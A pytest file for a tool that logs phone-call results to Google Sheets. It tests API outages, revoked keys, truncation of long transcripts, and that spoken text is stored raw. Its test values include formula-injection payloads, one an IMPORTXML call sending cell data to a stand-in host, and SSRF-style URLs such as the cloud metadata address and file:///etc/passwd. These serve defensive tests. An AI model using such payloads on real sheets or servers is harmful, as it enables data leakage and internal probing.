"""Google's bad days, and what callers can say that a sheet could take for more
than words."""

import subprocess

import pytest

from sheet_people import (
    ASHA, BILAL, READ, WRITE, assert_called_once, calm, line, lines, sheet_of,
    told)
from test_cases_dialer import Listener
from world import HEADER, World, person
from sim.bolna import Fate

TWO = [person("Asha", ASHA), person("Bilal", BILAL)]
SPEED = 60      # how much faster a fast clock runs


# --- a tab that is not the one it was ------------------------------------

@pytest.mark.parametrize("moment", ["before", "after"])
def test_a_tab_made_anew_in_the_middle_of_a_pass_is_not_written(
        tmp_path, moment):
    with sheet_of(tmp_path, TWO) as world:
        world.run()
        world.bolna.quiet()
        old = world.google.sheet
        getattr(world.google, moment)(READ, lambda _: setattr(
            world.google, "sheet", world.google.book.recreate_tab(old)))
        world.run(ok=False)
        world.age(900)
        world.run(ok=False)
        assert "has no tab with gid 0" in world.value(
            "SELECT problem FROM campaign")
        assert [c for c in world.google.changes("api") if c.gid != old.gid] \
            == []
        assert_called_once(world, ASHA, BILAL)


# --- Google's bad days --------------------------------------------------

@pytest.mark.parametrize("what", [429, 500, 503])
def test_results_wait_through_long_trouble_at_google(tmp_path, what):
    with sheet_of(tmp_path, TWO) as world:
        world.run()
        world.bolna.quiet()
        world.google.fail("*", what, times=500, retry_after=60)
        for _ in range(10):
            assert world.run(ok=False).returncode == 75
            world.age(60)
        assert world.value("SELECT count(*) FROM execution WHERE verified") \
            == 2, "Bolna is asked all the same"
        assert world.value("SELECT count(*) FROM delivery") == 2
        world.google._faults.clear()
        calm(world)
        assert len(lines(world)) == 2
        told(world, "Asha")
        told(world, "Bilal")
        assert_called_once(world, ASHA, BILAL)


def test_a_write_that_google_answers_too_late_does_no_harm(tmp_path):
    with sheet_of(tmp_path, TWO) as world:
        world.run()
        world.bolna.quiet()
        world.google.fail(WRITE, "stall-after", seconds=180)
        subprocess.run(["faketime", "-f", f"+0 x{SPEED}",
                        *world.command("run", "--once")],
                       stderr=subprocess.DEVNULL, timeout=60, check=False)
        assert [request.fault for request in world.google.asked(WRITE)
                ].count("stall-after") == 1
        assert world.value("SELECT count(*) FROM delivery") == 0 or \
            "no answer" in world.value("SELECT error FROM delivery")
        calm(world)
        assert len(lines(world)) == 2
        told(world, "Asha")
        told(world, "Bilal")
        assert_called_once(world, ASHA, BILAL)


def test_a_key_that_google_refuses_stops_the_sheet_and_nothing_else(
        tmp_path):
    with sheet_of(tmp_path, TWO) as world:
        world.run()
        world.bolna.quiet()
        world.google.tokens.revoke()
        world.google.tokens.key_exists = False
        before = len(world.google.requests)
        assert world.run(ok=False).returncode == 75
        asked = [request.method for request in
                 world.google.requests[before:]]
        assert set(asked) == {"token"} and len(asked) <= 2
        assert world.value("SELECT count(*) FROM execution WHERE verified") \
            == 2
        assert "create a new key" in world.callsheet("status").stdout


# --- what is said on the telephone --------------------------------------

SPOKEN = ['=IMPORTXML("https://x.invalid/?"&A1,"//a")', "+1 202 555 0100",
          "@SUM(A1:A9)", "\t=1+1", "-1", "=HYPERLINK(\"javascript:1\")",
          "TRUE", "1/2", "'=1", "\u202egnisrever\u202c", "\uff1d1+1"]


@pytest.mark.parametrize("text", SPOKEN)
def test_words_are_words_to_a_sheet(tmp_path, text):
    with World(tmp_path, TWO[:1], nginx=False, pace=0) as world:
        world.bolna.fate(ASHA, Fate(transcript=text, summary=text))
        calm(world)
        sheet = world.google.sheet
        for column in ("Transcript", "Summary"):
            assert sheet.at(1, sheet.column(column)) == text
        for request in world.google.asked(WRITE):
            assert request.body["valueInputOption"] == "RAW"


LONG = "\u202e\u0634\u0643\u0631\u0627\u200f "      # right to left


@pytest.mark.parametrize("csv_file", [False, True], ids=["google", "csv"])
@pytest.mark.parametrize("shift", [0, 1, 2, 3])
def test_a_long_transcript_is_cut_between_two_characters(
        tmp_path, csv_file, shift):
    text = "x" * shift + ("\U0001f600" + LONG) * 7000
    with World(tmp_path, TWO[:1], nginx=False, pace=0,
               csv_file=csv_file) as world:
        world.bolna.fate(ASHA, Fate(transcript=text))
        assert len(text) > 50000
        calm(world)
        cell = world.sheet()["Asha"]["Transcript"]
        kept = cell.removesuffix("... (truncated)")
        assert kept != cell and text.startswith(kept)
        assert 48000 < len(cell.encode("utf-16-le")) // 2 <= 50000


# --- addresses of recordings --------------------------------------------

@pytest.mark.parametrize("scheme, shown", [
    ("http://127.0.0.1:{port}/1.mp3", True),
    ("https://127.0.0.1:{port}/1.mp3", True),
    ("http://169.254.169.254/latest/meta-data", True),
    ("file:///etc/passwd", False), ("javascript:alert(1)", False),
    ("data:text/html,x", False), (" https://x.invalid/", False),
    ("ftp://127.0.0.1:{port}/1.mp3", False), ("//127.0.0.1:{port}/", False)])
def test_the_address_of_a_recording_is_text_and_never_asked_for(
        tmp_path, scheme, shown):
    with Listener(lambda connection: connection.recv(100)) as host, \
            World(tmp_path, [person("Asha", ASHA)], nginx=True, pace=0,
                  header=[*HEADER, "Recording"]) as world:
        address = scheme.format(port=host.port)
        world.bolna.fate(ASHA, Fate(changes={
            "telephony_data": {"recording_url": address}}))
        calm(world)
        sheet = world.google.sheet
        assert line(world, "Asha")["Status"] == "completed"
        assert sheet.at(1, sheet.column("Recording")) == (
            address if shown else "")
        assert host.seen == 0
